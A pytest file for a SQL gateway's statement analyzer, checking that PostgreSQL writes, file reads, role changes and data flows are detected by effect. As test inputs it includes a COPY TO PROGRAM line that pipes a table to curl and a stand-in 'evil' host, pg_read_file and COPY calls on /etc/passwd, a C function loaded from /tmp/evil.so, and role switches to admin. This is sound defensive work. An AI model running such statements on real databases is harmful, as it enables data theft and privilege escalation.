"""analyze(): every construct judged by what it does, never by its first keyword."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.sql import ColumnRef, StatementFacts, TableRef, analyze

T = TableRef("", "t")


def one(sql: str) -> StatementFacts:
    facts = analyze(sql)
    assert len(facts) == 1, facts
    return facts[0]


def cols(f: StatementFacts, usage: str | None = None) -> set[tuple[str, str, str]]:
    return {(c.schema, c.table, c.column) for c in f.columns if usage is None or c.usage == usage}


# ---------------------------------------------------------------- statements hidden in reads


def test_delete_in_cte_makes_the_select_a_write() -> None:
    f = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d")
    assert (f.command, f.category) == ("SELECT", "write")
    assert f.writes == (T,)
    assert "dml_in_cte" in f.flags
    assert f.has_where is False
    assert ("", "t", "*") in cols(f, "returning")


def test_insert_in_nested_cte_is_found() -> None:
    f = one(
        "WITH a AS (SELECT 1), b AS (WITH c AS (INSERT INTO s.log VALUES (1) RETURNING id) "
        "SELECT * FROM c) SELECT * FROM b"
    )
    assert f.category == "write"
    assert f.writes == (TableRef("s", "log"),)


def test_cte_names_are_not_tables() -> None:
    f = one("WITH x AS (SELECT a FROM real_t) SELECT a FROM x")
    assert f.reads == (TableRef("", "real_t"),)
    assert cols(f) == {("", "real_t", "a")}


def test_schema_qualified_name_is_not_the_cte() -> None:
    f = one("WITH x AS (SELECT 1) SELECT * FROM s.x")
    assert f.reads == (TableRef("s", "x"),)


def test_explain_analyze_runs_the_statement() -> None:
    f = one("EXPLAIN ANALYZE DELETE FROM t")
    assert (f.command, f.category) == ("EXPLAIN", "write")
    assert f.writes == (T,)
    assert "explain_analyze" in f.flags
    assert f.has_where is False


@pytest.mark.parametrize(
    "sql",
    ["EXPLAIN (ANALYZE) UPDATE t SET a = 1", "EXPLAIN (ANALYZE true, BUFFERS) UPDATE t SET a = 1"],
)
def test_explain_analyze_option_forms(sql: str) -> None:
    f = one(sql)
    assert f.category == "write" and f.writes == (T,) and "explain_analyze" in f.flags


@pytest.mark.parametrize(
    "sql", ["EXPLAIN DELETE FROM t WHERE id = 1", "EXPLAIN (ANALYZE off) DELETE FROM t"]
)
def test_plain_explain_only_reads(sql: str) -> None:
    f = one(sql)
    assert (f.command, f.category) == ("EXPLAIN", "read")
    assert f.reads == (T,) and f.writes == ()
    assert "explain_analyze" not in f.flags


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM t FOR UPDATE",
        "SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED",
        "SELECT * FROM t FOR SHARE NOWAIT",
        "SELECT * FROM t FOR KEY SHARE OF t",
        "WITH x AS (SELECT * FROM t FOR UPDATE) SELECT * FROM x",
        "SELECT 1 WHERE EXISTS (SELECT 1 FROM t FOR UPDATE)",
        "DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE",
        "EXPLAIN ANALYZE SELECT * FROM t FOR UPDATE",
    ],
)
def test_row_locking_select_is_flagged(sql: str) -> None:
    """FOR UPDATE/SHARE marks every row it reads (PostgreSQL asks for UPDATE privilege)."""
    f = one(sql)
    assert "row_lock" in f.flags
    assert f.category == "read" and f.writes == ()


@pytest.mark.parametrize(
    "sql", ["SELECT * FROM t", "EXPLAIN SELECT * FROM t FOR UPDATE", "LOCK TABLE t"]
)
def test_no_row_lock_without_a_locking_clause_that_runs(sql: str) -> None:
    assert "row_lock" not in one(sql).flags


@pytest.mark.parametrize(
    ("sql", "operators"),
    [
        ("SELECT a #=# b FROM t", ("#=#",)),
        ("SELECT 1 OPERATOR(s.#=#) 2", ("s.#=#",)),
        ("SELECT 1 WHERE 1 #=# ANY (SELECT a FROM t)", ("#=#",)),
        ("SELECT a #=# ALL ('{1}') FROM t", ("#=#",)),
        ("SELECT * FROM t ORDER BY a USING #<#", ("#<#",)),
        ("SELECT sum(a ORDER BY a USING #<#) FROM t", ("#<#",)),
        ("SELECT 1 WHERE 2 NOT BETWEEN 1 AND 3", (">=", "<=")),
        ("DELETE FROM t WHERE a LIKE 'x%'", ("~~",)),
        ("SELECT CASE a WHEN 1 THEN 2 END FROM t", ("=",)),
        ("SELECT 1 FROM t JOIN u USING (id)", ("=",)),
        ("SELECT 1 FROM t NATURAL JOIN u", ("=",)),
    ],
)
def test_operators_are_listed_for_the_catalog(sql: str, operators: tuple[str, ...]) -> None:
    """An operator calls the function behind it: the catalog checks who wrote that."""
    f = one(sql)
    assert f.operators == operators
    assert "operators" not in f.to_input(protocol="simple", index=0, count=1)


def test_names_after_a_dot_are_listed_for_the_catalog() -> None:
    """`t.name` may be a function taking t's row (attribute notation): the catalog checks."""
    f = one("SELECT o.total, (o).shout, s.t.c FROM t o, s.t WHERE o.id = 1")
    assert set(f.attributes) == {"total", "shout", "c", "id"}
    assert one("SELECT total FROM t").attributes == ()
    assert "attributes" not in f.to_input(protocol="simple", index=0, count=1)


def test_cast_types_are_listed_for_the_catalog() -> None:
    """A cast to a domain runs its CHECK; a cast may run a function: the catalog checks."""
    f = one("SELECT 'x'::d, CAST(1 AS s.d), int '1', a::text FROM t")
    assert f.types == ("d", "s.d", "pg_catalog.int4", "text")
    assert "types" not in f.to_input(protocol="simple", index=0, count=1)


def test_select_into_creates_a_table() -> None:
    f = one("SELECT a, b INTO new_t FROM src")
    assert (f.command, f.category) == ("SELECT INTO", "ddl")
    assert f.writes == (TableRef("", "new_t"),)
    assert f.reads == (TableRef("", "src"),)
    assert "select_into" in f.flags


def test_create_table_as() -> None:
    f = one("CREATE TABLE copy AS SELECT email FROM customers")
    assert (f.command, f.category) == ("CREATE TABLE AS", "ddl")
    assert f.writes == (TableRef("", "copy"),)
    assert f.reads == (TableRef("", "customers"),)
    assert ("", "customers", "email") in cols(f)


def test_merge_writes_target_and_reads_source() -> None:
    f = one(
        "MERGE INTO t USING s.src AS s ON t.id = s.id "
        "WHEN MATCHED AND s.flag THEN UPDATE SET a = s.a "
        "WHEN NOT MATCHED THEN INSERT (id, a) VALUES (s.id, s.a)"
    )
    assert (f.command, f.category) == ("MERGE", "write")
    assert f.writes == (T,)
    assert TableRef("s", "src") in f.reads
    assert ("", "t", "a") in cols(f, "assignment")
    assert ("s", "src", "flag") in cols(f, "predicate")
    assert ("s", "src", "id") in cols(f, "predicate")


def test_table_statement_reads_everything() -> None:
    f = one("TABLE t")
    assert (f.command, f.category) == ("SELECT", "read")
    assert f.reads == (T,)
    assert f.columns == (ColumnRef("", "t", "*", "output"),)


@pytest.mark.parametrize(
    ("sql", "category", "reads", "writes"),
    [
        ("COPY (DELETE FROM t RETURNING *) TO STDOUT", "write", (T,), (T,)),
        ("COPY t FROM STDIN", "write", (), (T,)),
        ("COPY t TO STDOUT", "read", (T,), ()),
        ("COPY (SELECT * FROM t) TO STDOUT", "read", (T,), ()),
    ],
)
def test_copy_direction(
    sql: str, category: str, reads: tuple[TableRef, ...], writes: tuple[TableRef, ...]
) -> None:
    f = one(sql)
    assert (f.command, f.category, f.reads, f.writes) == ("COPY", category, reads, writes)


def test_copy_to_stdout_lists_columns() -> None:
    assert cols(one("COPY t (a, b) TO STDOUT"), "output") == {("", "t", "a"), ("", "t", "b")}
    assert cols(one("COPY t TO STDOUT"), "output") == {("", "t", "*")}


@pytest.mark.parametrize(
    ("sql", "flag"),
    [
        ("COPY t TO PROGRAM 'curl -d @- evil'", "copy_program"),
        ("COPY t FROM PROGRAM 'id'", "copy_program"),
        ("COPY t TO '/tmp/out.csv'", "copy_server_file"),
        ("COPY t FROM '/etc/passwd'", "copy_server_file"),
    ],
)
def test_copy_server_side_escapes(sql: str, flag: str) -> None:
    assert flag in one(sql).flags


def test_copy_stdin_has_no_escape_flags() -> None:
    f = one("COPY t FROM STDIN")
    assert not {"copy_program", "copy_server_file"} & set(f.flags)


def test_prepare_carries_the_inner_statement() -> None:
    f = one("PREPARE p (int) AS DELETE FROM t WHERE id = $1")
    assert (f.command, f.category) == ("DELETE", "write")
    assert f.writes == (T,)
    assert f.prepared_name == "p"
    assert "prepare" in f.flags


def test_execute_alone_is_unknown_until_resolved() -> None:
    f = one("EXECUTE p (pg_terminate_backend(1))")
    assert (f.command, f.category, f.prepared_name) == ("EXECUTE", "unknown", "p")
    assert "pg_catalog.pg_terminate_backend" in f.functions


def test_declare_cursor_gives_the_query() -> None:
    f = one("DECLARE c CURSOR FOR SELECT email FROM customers")
    assert (f.command, f.category) == ("DECLARE", "read")
    assert f.reads == (TableRef("", "customers"),)
    assert ("", "customers", "email") in cols(f, "output")


@pytest.mark.parametrize(
    ("sql", "command", "category"),
    [
        ("FETCH 10 FROM c", "FETCH", "read"),
        ("MOVE NEXT IN c", "MOVE", "read"),
        ("CLOSE c", "CLOSE", "session"),
        ("CLOSE ALL", "CLOSE", "session"),
    ],
)
def test_cursor_commands(sql: str, command: str, category: str) -> None:
    f = one(sql)
    assert (f.command, f.category) == (command, category)


# ---------------------------------------------------------------- functions, wherever they are

FUNCTION_POSITIONS = [
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT * FROM pg_read_file('/etc/passwd')",
    "SELECT 1 FROM t WHERE pg_read_file('/etc/passwd') IS NOT NULL",
    "CREATE TABLE x (a text DEFAULT pg_read_file('/etc/passwd'))",
    "SELECT upper(lower(pg_read_file('/etc/passwd')))",
    "WITH c AS (SELECT pg_read_file('/etc/passwd')) SELECT * FROM c",
    "SELECT (SELECT pg_read_file('/etc/passwd'))",
    "SELECT 1 WHERE EXISTS (SELECT 1 FROM t WHERE pg_read_file('/etc/passwd') = '')",
    "CALL pg_read_file('/etc/passwd')",
    "INSERT INTO t VALUES (pg_read_file('/etc/passwd'))",
    "SELECT a FROM t ORDER BY pg_read_file('/etc/passwd')",
    "SELECT * FROM t, LATERAL (SELECT pg_read_file(t.a)) x",
    "SELECT * FROM t CROSS JOIN LATERAL pg_read_file(t.a) f",
    "UPDATE t SET a = pg_read_file('/etc/passwd')",
    "SELECT count(*) FILTER (WHERE pg_read_file('x') = '') FROM t",
    "SELECT a FROM t GROUP BY a HAVING max(pg_read_file(a)) > ''",
    "SELECT 1 UNION SELECT length(pg_read_file('/etc/passwd'))",
    "VALUES (pg_read_file('/etc/passwd'))",
    "SELECT CASE WHEN true THEN pg_read_file('x') END",
    "SELECT pg_read_file('x')::int",
    "COPY (SELECT pg_read_file('x')) TO STDOUT",
    "EXPLAIN ANALYZE SELECT pg_read_file('x')",
    "PREPARE q AS SELECT pg_read_file('x')",
    "DECLARE c CURSOR FOR SELECT pg_read_file('x')",
    "CREATE VIEW v AS SELECT pg_read_file('x')",
    "INSERT INTO t SELECT 1 ON CONFLICT (id) DO UPDATE SET a = pg_read_file('x')",
    "DELETE FROM t WHERE id IN (SELECT id FROM u WHERE pg_read_file(u.a) = '')",
    "SELECT sum(a) OVER (PARTITION BY pg_read_file(b)) FROM t",
    "MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN UPDATE SET a = pg_read_file('x')",
    "CREATE INDEX ON t ((pg_read_file(a)))",
    "ALTER TABLE t ADD COLUMN z text DEFAULT pg_read_file('x')",
    "SELECT 1 FROM t JOIN u ON pg_read_file(u.a) = t.a",
    "SELECT ARRAY[pg_read_file('x')]",
    "SELECT row(pg_read_file('x'))",
    "SELECT 1 FROM t LIMIT length(pg_read_file('x'))",
]


@pytest.mark.parametrize("sql", FUNCTION_POSITIONS)
def test_function_found_in_every_position(sql: str) -> None:
    assert "pg_catalog.pg_read_file" in one(sql).functions


def test_call_is_named_and_lists_its_procedure() -> None:
    f = one("CALL app.cleanup(now())")
    assert f.command == "CALL"
    assert set(f.functions) == {"app.cleanup", "pg_catalog.now"}


@pytest.mark.parametrize(
    ("sql", "name"),
    [
        ('SELECT "pg_terminate_backend"(1)', "pg_catalog.pg_terminate_backend"),
        ('SELECT "PG_TERMINATE_BACKEND"(1)', "pg_catalog.pg_terminate_backend"),
        ("SELECT PG_Terminate_Backend(1)", "pg_catalog.pg_terminate_backend"),
        ('SELECT U&"pg_terminate\\005fbackend"(1)', "pg_catalog.pg_terminate_backend"),
        ("SELECT U&\"!0070g_read_file\" UESCAPE '!' ('x')", "pg_catalog.pg_read_file"),
        ('SELECT "pg_catalog"."pg_read_file"(\'x\')', "pg_catalog.pg_read_file"),
        ("SELECT PG_CATALOG.pg_read_file('x')", "pg_catalog.pg_read_file"),
        ("SELECT postgres.pg_catalog.pg_read_file('x')", "pg_catalog.pg_read_file"),
        ("SELECT public.dblink_exec('x')", "public.dblink_exec"),
    ],
)
def test_function_names_are_canonical(sql: str, name: str) -> None:
    assert one(sql).functions == (name,)


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT set_config('role', 'admin', false)",
        "SELECT pg_catalog.set_config('ROLE', 'admin', false)",
        "SELECT set_config('session_authorization', 'admin', false)",
        "SELECT set_config(lower('ROLE'), 'admin', false)",
        "SELECT 1 FROM t WHERE set_config('role', 'admin', true) IS NOT NULL",
        "UPDATE pg_settings SET setting = 'admin' WHERE name = 'role'",
    ],
)
def test_identity_changes_through_functions_are_flagged(sql: str) -> None:
    assert "set_role" in one(sql).flags


def test_other_set_config_is_not_identity() -> None:
    assert "set_role" not in one("SELECT set_config('work_mem', '64MB', false)").flags


# ---------------------------------------------------------------- SET and friends


@pytest.mark.parametrize(
    ("sql", "command", "flag"),
    [
        ("SET ROLE admin", "SET ROLE", "set_role"),
        ("SET LOCAL ROLE admin", "SET ROLE", "set_role"),
        ("SET SESSION ROLE admin", "SET ROLE", "set_role"),
        ("RESET ROLE", "RESET ROLE", "set_role"),
        (
            "SET SESSION AUTHORIZATION admin",
            "SET SESSION AUTHORIZATION",
            "set_session_authorization",
        ),
        (
            "SET SESSION AUTHORIZATION DEFAULT",
            "SET SESSION AUTHORIZATION",
            "set_session_authorization",
        ),
        ("RESET SESSION AUTHORIZATION", "RESET SESSION AUTHORIZATION", "set_session_authorization"),
        ("SET role = 'admin'", "SET ROLE", "set_role"),
        ('set "role" to admin', "SET ROLE", "set_role"),
    ],
)
def test_identity_changes(sql: str, command: str, flag: str) -> None:
    f = one(sql)
    assert (f.command, f.category) == (command, "dcl")
    assert flag in f.flags


@pytest.mark.parametrize("sql", ["RESET ALL", "DISCARD ALL", "DISCARD PLANS", "DISCARD TEMP"])
def test_pool_resets_change_no_identity(sql: str) -> None:
    """RESET ALL leaves role and session_authorization alone; DISCARD ALL returns to the
    login identity: neither is an identity change a policy must stop."""
    f = one(sql)
    assert f.category == "session"
    assert "set_role" not in f.flags and "set_session_authorization" not in f.flags
    assert ("discard_all" in f.flags) == (sql == "DISCARD ALL")


def test_plain_set_is_session_with_setting() -> None:
    f = one('SET search_path = app, "Weird Schema", public')
    assert (f.command, f.category) == ("SET", "session")
    assert f.setting == ("search_path", 'app, "Weird Schema", public')
    assert one("SET work_mem TO '64MB'").setting == ("work_mem", "64MB")
    assert one("RESET work_mem").command == "RESET"


def test_do_block_is_procedural() -> None:
    f = one("DO $$ BEGIN PERFORM 1; DELETE FROM t; END $$")
    assert (f.command, f.category) == ("DO", "utility")
    assert "procedural" in f.flags


# ---------------------------------------------------------------- WHERE


@pytest.mark.parametrize(
    "sql",
    [
        "DELETE FROM t",
        "DELETE FROM t WHERE true",
        "DELETE FROM t WHERE 1 = 1",
        "DELETE FROM t WHERE 'a' = 'a'",
        "DELETE FROM t WHERE 't'::boolean",
        "DELETE FROM t WHERE NOT false",
        "DELETE FROM t WHERE id = 5 OR true",
        "DELETE FROM t WHERE 1 = 1 AND 2 > 1",
        "DELETE FROM t WHERE NULL IS NULL",
        "DELETE FROM t WHERE id = id",
        "UPDATE t SET a = 1",
        "UPDATE t SET a = 1 WHERE TRUE",
        "UPDATE t SET a = 1 WHERE (1 = 1)",
        "WITH d AS (DELETE FROM t WHERE 1=1 RETURNING *) SELECT * FROM d WHERE id = 5",
        "WITH d AS (DELETE FROM t WHERE id = 1) UPDATE u SET a = 1",
    ],
)
def test_constant_true_where_counts_as_none(sql: str) -> None:
    assert one(sql).has_where is False


@pytest.mark.parametrize(
    "sql",
    ["DELETE FROM t WHERE id = 5", "UPDATE t SET a = 1 WHERE id = $1", "DELETE FROM t WHERE 1 = 2"],
)
def test_real_where(sql: str) -> None:
    assert one(sql).has_where is True


def test_truncate() -> None:
    f = one("TRUNCATE t, s.u")
    assert (f.command, f.category) == ("TRUNCATE", "write")
    assert f.writes == (T, TableRef("s", "u"))


# ---------------------------------------------------------------- command table


@pytest.mark.parametrize(
    ("sql", "command", "category"),
    [
        ("SELECT 1", "SELECT", "read"),
        ("INSERT INTO t VALUES (1)", "INSERT", "write"),
        ("UPDATE t SET a = 1 WHERE id = 2", "UPDATE", "write"),
        ("DELETE FROM t WHERE id = 2", "DELETE", "write"),
        ("GRANT SELECT ON t TO bob", "GRANT", "dcl"),
        ("REVOKE SELECT ON t FROM bob", "REVOKE", "dcl"),
        ("GRANT admins TO bob", "GRANT", "dcl"),
        ("CREATE ROLE bob", "CREATE ROLE", "dcl"),
        ("CREATE USER bob PASSWORD 'x'", "CREATE USER", "dcl"),
        ("ALTER ROLE bob SUPERUSER", "ALTER ROLE", "dcl"),
        ("ALTER USER bob SET search_path = x", "ALTER ROLE", "dcl"),
        ("DROP ROLE bob", "DROP ROLE", "dcl"),
        ("ALTER SYSTEM SET log_statement = 'none'", "ALTER SYSTEM", "dcl"),
        ("LOAD 'auto_explain'", "LOAD", "dcl"),
        ("CREATE EXTENSION dblink", "CREATE EXTENSION", "ddl"),
        ("BEGIN", "BEGIN", "tcl"),
        ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE", "START TRANSACTION", "tcl"),
        ("COMMIT", "COMMIT", "tcl"),
        ("ROLLBACK", "ROLLBACK", "tcl"),
        ("SAVEPOINT s1", "SAVEPOINT", "tcl"),
        ("RELEASE SAVEPOINT s1", "RELEASE", "tcl"),
        ("ROLLBACK TO SAVEPOINT s1", "ROLLBACK TO SAVEPOINT", "tcl"),
        ("SET TRANSACTION READ ONLY", "SET TRANSACTION", "tcl"),
        ("VACUUM t", "VACUUM", "utility"),
        ("ANALYZE t", "ANALYZE", "utility"),
        ("CHECKPOINT", "CHECKPOINT", "utility"),
        ("REINDEX TABLE t", "REINDEX", "utility"),
        ("CLUSTER t USING t_pkey", "CLUSTER", "utility"),
        ("LISTEN ch", "LISTEN", "session"),
        ("NOTIFY ch, 'x'", "NOTIFY", "session"),
        ("UNLISTEN *", "UNLISTEN", "session"),
        ("SHOW search_path", "SHOW", "session"),
        ("DISCARD ALL", "DISCARD", "session"),
        ("DEALLOCATE ALL", "DEALLOCATE", "session"),
        ("CREATE TABLE t (a int)", "CREATE TABLE", "ddl"),
        ("CREATE VIEW v AS SELECT 1", "CREATE VIEW", "ddl"),
        ("CREATE MATERIALIZED VIEW mv AS SELECT 1", "CREATE MATERIALIZED VIEW", "ddl"),
        ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "CREATE FUNCTION", "ddl"),
        ("CREATE INDEX i ON t (a)", "CREATE INDEX", "ddl"),
        ("ALTER TABLE t ADD COLUMN b int", "ALTER TABLE", "ddl"),
        ("ALTER TABLE t RENAME TO t2", "ALTER TABLE", "ddl"),
        ("DROP TABLE t", "DROP TABLE", "ddl"),
        ("DROP VIEW v", "DROP VIEW", "ddl"),
        ("DROP FUNCTION f()", "DROP FUNCTION", "ddl"),
        ("DROP INDEX i", "DROP INDEX", "ddl"),
        ("CREATE SCHEMA s", "CREATE SCHEMA", "ddl"),
        ("COMMENT ON TABLE t IS 'x'", "COMMENT", "ddl"),
        ("CALL p()", "CALL", "write"),
        ("REFRESH MATERIALIZED VIEW mv", "REFRESH MATERIALIZED VIEW", "write"),
        ("LOCK TABLE t", "LOCK", "utility"),
        ("VALUES (1), (2)", "VALUES", "read"),
    ],
)
def test_commands_and_categories(sql: str, command: str, category: str) -> None:
    f = one(sql)
    assert (f.command, f.category) == (command, category)


@pytest.mark.parametrize(
    ("sql", "writes"),
    [
        ("CREATE TABLE s.t (a int)", (TableRef("s", "t"),)),
        ("ALTER TABLE t ADD COLUMN b int", (T,)),
        ("DROP TABLE t, s.u", (T, TableRef("s", "u"))),
        ("CREATE INDEX ON t (a)", (T,)),
        ("ALTER TABLE t RENAME COLUMN a TO b", (T,)),
        ("CREATE SCHEMA s CREATE TABLE t (a int)", (T,)),
    ],
)
def test_ddl_lists_the_table(sql: str, writes: tuple[TableRef, ...]) -> None:
    assert one(sql).writes == writes


def test_trigger_names_its_function() -> None:
    f = one("CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION app.audit()")
    assert (f.command, f.writes, f.functions) == ("CREATE TRIGGER", (T,), ("app.audit",))


def test_create_function_is_procedural() -> None:
    f = one("CREATE FUNCTION f() RETURNS int AS '/tmp/evil.so', 'f' LANGUAGE c")
    assert "procedural" in f.flags


# ---------------------------------------------------------------- columns


def test_columns_resolved_through_aliases() -> None:
    f = one(
        "SELECT c.name, o.total FROM customers c JOIN orders o ON o.customer_id = c.id "
        "WHERE c.email LIKE '%x' GROUP BY c.name, o.total ORDER BY o.total"
    )
    assert cols(f, "output") == {("", "customers", "name"), ("", "orders", "total")}
    assert cols(f, "join") == {("", "orders", "customer_id"), ("", "customers", "id")}
    assert cols(f, "predicate") == {("", "customers", "email")}
    assert cols(f, "group") == {("", "customers", "name"), ("", "orders", "total")}
    assert cols(f, "order") == {("", "orders", "total")}


def test_ambiguous_column_listed_against_every_table() -> None:
    f = one("SELECT 1 FROM customers JOIN orders USING (id) WHERE email = 'x'")
    assert cols(f, "predicate") == {("", "customers", "email"), ("", "orders", "email")}
    assert cols(f, "join") == {("", "customers", "id"), ("", "orders", "id")}


def test_stars() -> None:
    assert cols(one("SELECT * FROM s.t"), "output") == {("s", "t", "*")}
    f = one("SELECT c.*, o.id FROM customers c, orders o")
    assert cols(f, "output") == {("", "customers", "*"), ("", "orders", "id")}
    assert cols(one("DELETE FROM t WHERE a = 1 RETURNING *"), "returning") == {("", "t", "*")}


def test_update_and_insert_assignments() -> None:
    f = one("UPDATE t SET a = b + 1, c = 2 WHERE id = 3 RETURNING a")
    assert cols(f, "assignment") == {("", "t", "a"), ("", "t", "c")}
    assert cols(f, "predicate") == {("", "t", "id")}
    assert cols(f, "returning") == {("", "t", "a")}
    # b is read into the value written to a: a data flow into a column, usage "source".
    assert cols(f, "source") == {("", "t", "b")}
    f = one("INSERT INTO t (a, b) VALUES (1, 2)")
    assert cols(f, "assignment") == {("", "t", "a"), ("", "t", "b")}


@pytest.mark.parametrize(
    "sql",
    [
        "UPDATE notes SET body = email FROM customers WHERE customers.id = notes.id",
        "UPDATE notes SET body = (SELECT upper(email) FROM customers LIMIT 1) WHERE id = 1",
        "UPDATE notes SET (id, body) = (SELECT id, email FROM customers LIMIT 1) WHERE id = 1",
        "INSERT INTO notes (body) SELECT email FROM customers RETURNING body",
        "INSERT INTO notes (body) VALUES ((SELECT email FROM customers LIMIT 1))",
        "INSERT INTO notes SELECT c.id, c.email || '' FROM customers c",
        "WITH s AS (SELECT email FROM customers) INSERT INTO notes (body) SELECT * FROM s",
        "INSERT INTO notes (id, body) VALUES (1, 'x')"
        " ON CONFLICT (id) DO UPDATE SET body = (SELECT email FROM customers LIMIT 1)",
        "MERGE INTO notes n USING customers c ON n.id = c.id"
        " WHEN MATCHED THEN UPDATE SET body = c.email",
        "MERGE INTO notes n USING customers c ON n.id = c.id"
        " WHEN NOT MATCHED THEN INSERT (id, body) VALUES (c.id, c.email)",
        "WITH u AS (UPDATE notes SET body = c.email FROM customers c WHERE c.id = notes.id"
        " RETURNING body) SELECT body FROM u",
    ],
)
def test_a_classified_column_copied_into_a_written_column_is_a_source(sql: str) -> None:
    f = one(sql)
    assert ("", "customers", "email") in cols(f, "source"), f.columns
    assert any(c.table == "notes" for c in f.columns if c.usage == "assignment"), f.columns


def test_a_whole_row_copied_into_a_table_is_every_column_as_source() -> None:
    f = one("INSERT INTO notes (body) SELECT c::text FROM customers c")
    assert ("", "customers", "*") in cols(f, "source")


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT query_to_xml('SELECT email FROM customers', true, false, '')",
        "SELECT pg_catalog.table_to_xml('customers'::regclass, true, false, '')",
        "SELECT cursor_to_xml('c', 10, true, false, '')",
        "SELECT * FROM ts_stat('SELECT to_tsvector(email) FROM customers')",
        "SELECT x FROM customers c, LATERAL schema_to_xml('public', true, false, '') x",
        "SELECT database_to_xml_and_xmlschema(true, false, '')",
    ],
)
def test_builtins_that_read_what_a_text_or_name_says_are_opaque(sql: str) -> None:
    assert "opaque_function" in one(sql).flags


def test_builtins_that_take_the_value_itself_are_traced_not_opaque() -> None:
    for sql in (
        "SELECT to_jsonb(c) FROM customers c",
        "SELECT format('%s', c) FROM customers c",
        "SELECT xmlforest(email) FROM customers",
    ):
        f = one(sql)
        assert "opaque_function" not in f.flags, sql
        assert cols(f, "expression") & {("", "customers", "*"), ("", "customers", "email")}, sql


def test_predicate_through_a_derived_table_reaches_the_base_column() -> None:
    f = one("SELECT x FROM (SELECT email AS x FROM customers) s WHERE s.x LIKE 'a%'")
    assert ("", "customers", "email") in cols(f, "predicate")


def test_predicate_through_a_cte_reaches_the_base_column() -> None:
    f = one("WITH s AS (SELECT * FROM customers) SELECT 1 FROM s WHERE s.email LIKE 'a%'")
    assert ("", "customers", "email") in cols(f, "predicate")


def test_predicate_through_recursive_cte() -> None:
    f = one(
        "WITH RECURSIVE r(e, n) AS (SELECT email, 1 FROM customers UNION ALL "
        "SELECT e, n + 1 FROM r WHERE e LIKE 'a%' AND n < 3) SELECT n FROM r"
    )
    assert ("", "customers", "email") in cols(f, "predicate")


def test_sub_select_output_in_where_is_a_predicate() -> None:
    f = one("SELECT 1 FROM t WHERE 'a@b' IN (SELECT email FROM customers)")
    assert ("", "customers", "email") in cols(f, "predicate")


def test_order_by_output_alias_and_position() -> None:
    assert ("", "customers", "email") in cols(
        one("SELECT email AS e FROM customers ORDER BY e"), "order"
    )
    assert ("", "customers", "email") in cols(
        one("SELECT id, email FROM customers ORDER BY 2"), "order"
    )


def test_whole_row_reference_is_every_column() -> None:
    assert ("", "customers", "*") in cols(one("SELECT c FROM customers c"), "output")
    # Under a function the whole row is computed on, like each of its columns.
    f = one("SELECT row_to_json(c) FROM customers c")
    assert ("", "customers", "*") in cols(f, "expression")
    assert cols(f, "output") == set()


# ---------------------------------------------------------------- oracles beyond WHERE


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT 1/(ascii(email)-97) FROM customers",
        "SELECT email::int FROM customers",
        "SELECT email || '' FROM customers",
        "SELECT CASE WHEN email LIKE 'a%' THEN 1 END FROM customers",
        "SELECT CASE email WHEN 'x' THEN 1 END FROM customers",
        "SELECT coalesce(email, 'x') FROM customers",
        "SELECT email IS NULL FROM customers",
        "SELECT count(email) FROM customers",
        "SELECT count(DISTINCT email) FROM customers",
        "SELECT regexp_split_to_table(email, '') FROM customers",
        "SELECT x FROM customers, LATERAL generate_series(1, ascii(email)) x",
        "SELECT x FROM customers c, generate_series(1, length(c.email)) x",
        "SELECT x FROM customers c, LATERAL unnest(ARRAY[c.email]) x",
        "SELECT ascii((SELECT email FROM customers LIMIT 1))",
        "SELECT email IN (SELECT 'x') FROM customers",
        "SELECT x FROM (SELECT ascii(email) AS x FROM customers) s",
        "SELECT upper(x) FROM (SELECT email AS x FROM customers) s",
        "WITH s AS (SELECT email AS x FROM customers) SELECT length(x) FROM s",
        "SELECT arr[ascii(email)] FROM customers",
    ],
)
def test_a_classified_column_computed_on_is_expression_usage(sql: str) -> None:
    assert ("", "customers", "email") in cols(one(sql), "expression")


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT email FROM customers",
        "SELECT email AS e FROM customers",
        "SELECT c.email FROM customers c",
        "SELECT (c).email FROM customers c",
        "SELECT * FROM customers",
        "SELECT c.* FROM customers c",
        "SELECT (SELECT email FROM customers LIMIT 1)",
        "SELECT ARRAY(SELECT email FROM customers)",
        "SELECT e FROM (SELECT email AS e FROM customers) s",
        "SELECT email FROM customers UNION ALL SELECT 'x'",
        "SELECT count(*) FROM customers",
    ],
)
def test_a_classified_column_shown_as_it_is_is_output(sql: str) -> None:
    assert cols(one(sql), "expression") == set()
    assert {c.usage for c in one(sql).columns} <= {"output"}


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT email FROM customers INTERSECT SELECT 'a'",
        "SELECT 'a' EXCEPT SELECT email FROM customers",
        "SELECT email FROM customers UNION SELECT 'a'",
        "SELECT 'a' INTERSECT ALL SELECT email FROM customers",
        "SELECT * FROM customers EXCEPT SELECT * FROM customers",
        "SELECT DISTINCT email FROM customers",
        "SELECT DISTINCT ON (email) id FROM customers",
        "SELECT DISTINCT ON (2) id, email FROM customers",
        "SELECT DISTINCT ON (e) id, email AS e FROM customers",
    ],
)
def test_set_operations_and_distinct_compare_values(sql: str) -> None:
    f = one(sql)
    assert {("", "customers", "email"), ("", "customers", "*")} & cols(f, "group"), f.columns


def test_union_all_does_not_compare() -> None:
    assert cols(one("SELECT email FROM customers UNION ALL SELECT 'a'"), "group") == set()
    assert cols(one("SELECT DISTINCT id FROM customers"), "group") == {("", "customers", "id")}


def test_natural_join_compares_the_shared_names() -> None:
    f = one("SELECT id FROM customers NATURAL JOIN (SELECT 'x'::text AS email) v")
    assert cols(f, "join") == {("", "customers", "email")}
    f = one("SELECT id FROM (SELECT 1 AS id, 2 AS n) v NATURAL JOIN customers")
    assert cols(f, "join") == {("", "customers", "id"), ("", "customers", "n")}
    f = one(
        "WITH a AS (SELECT email, id FROM customers), b AS (SELECT email FROM customers) "
        "SELECT 1 FROM a NATURAL JOIN b"
    )
    assert cols(f, "join") == {("", "customers", "email")}
    # Two tables: only the catalog knows their names, so every column counts (over-report).
